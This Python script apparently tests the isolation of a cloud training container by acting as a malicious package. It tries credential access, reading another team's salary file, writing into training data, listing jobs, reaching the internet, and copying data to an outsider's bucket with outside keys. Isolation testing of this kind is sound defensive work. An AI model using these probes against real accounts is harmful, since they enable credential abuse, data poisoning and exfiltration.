"""An intruder in the container: tries every way that it knows, and says which were open.

It stands for a package that somebody installed without reading it. A training job runs it in place of a training
script; targets.json, beside it in its channel, says what is where. It breaks nothing: it reads where it may, and
what it writes are files called "intruder". The job's log gets one line of JSON.
"""

import json
import urllib.request
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from threading import Lock

import boto3
from botocore.config import Config

SESSION, ONE = boto3.session.Session(), Lock()  # which makes one client at a time
HASTE = {"connect_timeout": 3, "read_timeout": 5, "retries": {"total_max_attempts": 1}}


def client(service, targets, **keys):
    """A client with the keys of the job's role, or with `keys`; what does not answer is given up soon."""
    with ONE:
        return SESSION.client(service, targets["region"], config=Config(**HASTE), **keys)


def take_keys(_targets):
    """The keys of the role that the job has taken, and with them who it is."""
    with ONE:
        keys = SESSION.get_credentials()
    if keys is None:
        raise LookupError("no keys in the container")
    return f"keys that begin with {keys.get_frozen_credentials().access_key[:4]}"


def read_neighbours(targets):
    """A file in another team's bucket."""
    found = client("s3", targets).get_object(Bucket=targets["neighbours"], Key="salaries.csv")
    return f"{len(found['Body'].read())} bytes of salaries.csv"


def poison_data(targets):
    """One more file among the training data, from which the next model learns."""
    bucket, _, folder = targets["data"].removeprefix("s3://").partition("/")
    client("s3", targets).put_object(Bucket=bucket, Key=f"{folder}/intruder", Body=b"7,7,7")
    return "a file among the training data"


def read_account(targets):
    """What everybody in the account trains."""
    jobs = client("sagemaker", targets).list_training_jobs(MaxResults=100)["TrainingJobSummaries"]
    return f"{len(jobs)} training jobs of the account"


def reach_internet(targets):
    """A page of the internet, from which more code could come and to which data could go."""
    with urllib.request.urlopen(targets["page"], timeout=5) as page:
        return f"{page.status} from {targets['page']}"


def carry_out(targets):
    """The training data into a bucket of the intruder's own, with keys that it has brought along."""
    s3 = client("s3", targets, **targets["strangers_keys"])
    s3.put_object(Bucket=targets["strangers"], Key="intruder", Body=b"what was to be kept secret")
    return "a file in the stranger's bucket"


ATTEMPTS = (take_keys, read_neighbours, poison_data, read_account, reach_internet, carry_out)


def attempt(way, targets):
    """What an attempt came to: whether the way was open, and what it said."""
    try:
        return {"open": True, "said": way(targets)}
    except Exception as closed:  # whatever is in its way is what we want to know
        return {"open": False, "said": f"{type(closed).__name__}: {closed}"[:500]}


def main():
    targets = json.loads(Path(__file__).with_name("targets.json").read_text())
    with ThreadPoolExecutor(len(ATTEMPTS)) as pool:
        came_to = list(pool.map(lambda way: attempt(way, targets), ATTEMPTS))
    print(json.dumps({way.__name__: result for way, result in zip(ATTEMPTS, came_to, strict=True)}), flush=True)


if __name__ == "__main__":
    main()
